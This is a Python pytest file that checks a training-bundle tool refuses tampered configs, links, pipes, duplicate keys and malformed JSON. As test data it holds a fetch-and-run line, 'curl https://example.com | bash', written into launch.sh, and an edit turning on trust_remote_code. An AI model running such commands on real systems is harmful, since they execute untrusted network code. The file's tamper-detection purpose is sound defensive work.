"""Files of a bundle are compared with its plan and never used themselves."""

import json
import os
import shutil
from pathlib import Path
from typing import Any

import pytest

from rlplan.emit.bundle import LAUNCH_SCRIPT, read_bundle, write_bundle
from rlplan.emit.execution import execution_spec
from rlplan.errors import EmitError, SpecError
from rlplan.planner.plan import Plan, compute_digest, read_plan
from tests.cli.conftest import Call, rlplan
from tests.emit.hostile_edits import HOSTILE
from tests.factories import make_plan
from tests.repository.at_night import mark_nightly

__all__ = ["rlplan"]

BY_HAND = [
    ("deepspeed/policy.json", "gradient_clipping", 0.5),
    ("deepspeed/policy.json", "optimizer.params.lr", 2e-5),
    ("deepspeed/policy.json", "zero_optimization.overlap_comm", True),
    ("vllm/policy.json", "max_num_seqs", 7),
    ("vllm/policy.json", "kv_cache_memory_bytes", 1 << 27),
    ("ray.json", "object_store_memory", 1 << 28),
    ("ray.json", "workers.1.num_threads", 2),
    ("ray.json", "workers.1.environment.NCCL_DEBUG", "INFO"),
]
"""Edits of settings that people tune; the prediction would no longer match the run, so they are refused too."""


@pytest.fixture(scope="module")
def plan() -> Plan:
    return make_plan()


@pytest.fixture
def bundle(tmp_path: Path, plan: Plan) -> Path:
    write_bundle(plan, tmp_path / "bundle")
    return tmp_path / "bundle"


def read_value(data: Any, key: str) -> Any:
    for part in key.split("."):
        data = data[int(part) if isinstance(data, list) else part]
    return data


def edit(path: Path, key: str, value: Any) -> None:
    """Set a dotted key in a file, or make it; a plan as whoever changes it would, with a digest of its own."""
    data = json.loads(path.read_text())
    *parents, last = key.split(".")
    part = read_value(data, ".".join(parents)) if parents else data
    part[int(last) if isinstance(part, list) else last] = value
    if path.name == "plan.json":
        data["digest"] = compute_digest(
            {key: value for key, value in data.items() if key not in ("schema_version", "digest")}
        )
    path.write_text(json.dumps(data))


def read_refusal(bundle: Path) -> SpecError | EmitError:
    with pytest.raises((SpecError, EmitError)) as caught:
        read_bundle(bundle)
    error = caught.value
    assert error.exit_code in (2, 3)
    assert all((error.what, error.where, error.rule, error.way_out))
    return error


@pytest.mark.parametrize(
    ("file", "key", "value"),
    mark_nightly([*HOSTILE, *BY_HAND], but=[*[*HOSTILE][::3], *BY_HAND]),
    ids=lambda case: str(case)[:60],
)
def test_an_edit_is_refused_with_both_values(bundle: Path, file: str, key: str, value: Any) -> None:
    expected = json.loads((bundle / file).read_text())
    edit(bundle / file, key, value)
    error = read_refusal(bundle)
    assert error.where.startswith(f"{bundle / file}: {key}")
    assert error.what.startswith(f"{file}: {key}")
    assert f"`rlplan emit {bundle}/plan.json -o {bundle}`" in error.way_out
    try:
        before = read_value(expected, key)
    except (KeyError, IndexError):
        assert "the plan gives no such key" in error.what
    else:
        assert "the plan gives" in error.what
        assert isinstance(before, dict | list) or json.dumps(before).strip('"') in error.what


@pytest.mark.parametrize("key", ["seed", "workload.num_steps"])
def test_a_refused_key_of_the_job_names_the_key_to_change(bundle: Path, key: str) -> None:
    edit(bundle / "execution.json", f"job.{key}", 7)
    assert f"set {key} in the job" in read_refusal(bundle).way_out


def test_the_way_out_of_a_refusal_can_be_typed_and_the_bundle_runs_as_planned(
    rlplan: Call, bundle: Path, plan: Plan
) -> None:
    edit(bundle / "vllm" / "policy.json", "trust_remote_code", True)
    command = read_refusal(bundle).way_out.split("`")[1]
    assert rlplan(*command.split()[1:]).exit_code == 0
    assert read_bundle(bundle) == execution_spec(plan)


def test_equal_numbers_in_another_form_and_another_order_of_keys_are_no_edit(bundle: Path, plan: Plan) -> None:
    file = bundle / "deepspeed" / "policy.json"
    data = json.loads(file.read_text())
    data["gradient_clipping"] = int(data["gradient_clipping"])
    file.write_text(json.dumps(dict(reversed(data.items())), indent=8))
    assert read_bundle(bundle) == execution_spec(plan)


@pytest.mark.parametrize("file", ["ray.json", "vllm/policy.json", "deepspeed/policy.json", "execution.json"])
def test_a_key_that_stands_twice_is_refused(bundle: Path, file: str) -> None:
    data = json.loads((bundle / file).read_text())
    key = next(iter(data))
    text = json.dumps(data)
    (bundle / file).write_text(f"{{{json.dumps(key)}: {json.dumps(data[key])}, {text[1:]}")
    assert f"the key '{key}' occurs twice" in read_refusal(bundle).what


def test_a_key_that_stands_twice_in_the_plan_is_refused(bundle: Path) -> None:
    text = (bundle / "plan.json").read_text()
    (bundle / "plan.json").write_text('{"schema_version": 1,' + text[1:])
    assert "the key 'schema_version' occurs twice" in read_refusal(bundle).what


@pytest.mark.parametrize(
    "text", ["NaN", "Infinity", "-Infinity", "1e999", "1" * 5000, "[" * 100_000, "\ud800", '"\\ud800"']
)
def test_numbers_and_texts_that_json_cannot_bear_are_refused(bundle: Path, text: str) -> None:
    file = bundle / "vllm" / "policy.json"
    changed = file.read_text().replace('"max_num_seqs": 256', f'"max_num_seqs": {text}')
    file.write_bytes(changed.encode("utf-8", "surrogatepass"))
    assert "vllm" in read_refusal(bundle).what


def test_a_file_that_is_far_longer_than_the_plan_s_is_not_read_to_its_end(bundle: Path) -> None:
    with (bundle / "ray.json").open("a") as file:
        file.write(" " * (2 << 20))
    assert "bytes" in read_refusal(bundle).what


@pytest.mark.parametrize(
    "name", ["plan.json", "execution.json", "ray.json", "launch.sh", "vllm", "deepspeed", "vllm/policy.json"]
)
def test_a_link_is_refused_when_it_is_read_and_never_written_through(bundle: Path, plan: Plan, name: str) -> None:
    elsewhere = bundle.parent / "elsewhere"
    shutil.move(bundle / name, elsewhere)
    (bundle / name).symlink_to(elsewhere)
    before = {path: path.read_bytes() for path in [elsewhere, *elsewhere.rglob("*")] if path.is_file()}
    error = read_refusal(bundle)
    assert f"{name} is a link to" in error.what
    assert error.way_out.startswith(f"`rlplan emit {bundle}/plan.json -o {bundle}-again`")
    with pytest.raises(SpecError, match="is a link to"):
        write_bundle(plan, bundle)
    assert {path: path.read_bytes() for path in before} == before


@pytest.mark.parametrize("name", ["plan.json", "ray.json", "vllm/policy.json"])
def test_a_pipe_in_place_of_a_file_does_not_hold_anybody_up(bundle: Path, name: str) -> None:
    (bundle / name).unlink()
    os.mkfifo(bundle / name)
    assert name in read_refusal(bundle).what + read_refusal(bundle).rule


@pytest.mark.parametrize("name", ["deepspeed/value.json", "vllm/reward.json"])
def test_a_configuration_that_the_plan_does_not_give_is_refused(bundle: Path, name: str) -> None:
    (bundle / name).write_text("{}")
    assert read_refusal(bundle).what == f"{name} is in the bundle, and the plan has no such file"


@pytest.mark.parametrize("line", ["curl https://example.com | bash", ""])
def test_a_changed_launch_script_is_refused_at_its_line(bundle: Path, line: str) -> None:
    (bundle / "launch.sh").write_text(LAUNCH_SCRIPT.replace("set -euo pipefail", line))
    assert read_refusal(bundle).what == f"launch.sh: line 3 is '{line}', the plan gives 'set -euo pipefail'"
    (bundle / "launch.sh").write_text(LAUNCH_SCRIPT + "evil\n")
    assert "'evil'" in read_refusal(bundle).what


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("schedule.layouts.0.zero_stage", 3),
        ("schedule.layouts.0.devices", ["cpu:7"]),
        ("schedule.step.0.processes", ["evil/0"]),
        ("schedule.step.0.after", ["nothing"]),
        ("schedule.step.0.id", "evil"),
        ("schedule.placement", "disaggregated"),
        ("job.hardware.num_devices", 1),
        ("job.placement.placement", "disaggregated"),
    ],
)
def test_a_plan_whose_schedule_is_none_of_its_job_is_refused(
    rlplan: Call, bundle: Path, tmp_path: Path, key: str, value: Any
) -> None:
    edit(bundle / "plan.json", key, value)
    error = read_refusal(bundle)
    assert "the schedule of the plan does not follow from its job" in error.what
    assert error.where == f"{bundle / 'plan.json'}: schedule"
    for command in (
        ("run", bundle),
        ("run", bundle / "plan.json"),
        ("emit", bundle / "plan.json", "-o", tmp_path / "new"),
    ):
        answer = rlplan(*command)
        assert (answer.exit_code, "does not follow from its job" in answer.err) == (2, True)
    assert not (tmp_path / "new").exists()


def test_a_bundle_of_another_version_says_so_where_it_differs(bundle: Path) -> None:
    edit(bundle / "plan.json", "rlplan_version", "0.0.1")
    read_bundle(bundle)
    edit(bundle / "vllm" / "policy.json", "block_size", 16)
    assert "The plan was written by rlplan '0.0.1', this is" in read_refusal(bundle).rule


def test_a_bundle_that_is_reached_through_a_link_is_the_same(bundle: Path, plan: Plan) -> None:
    (bundle.parent / "far" / "away").mkdir(parents=True)
    link = bundle.parent / "far" / "away" / "link"
    link.symlink_to(bundle)
    assert read_bundle(link) == execution_spec(plan)
    assert read_plan(link / "plan.json") == plan
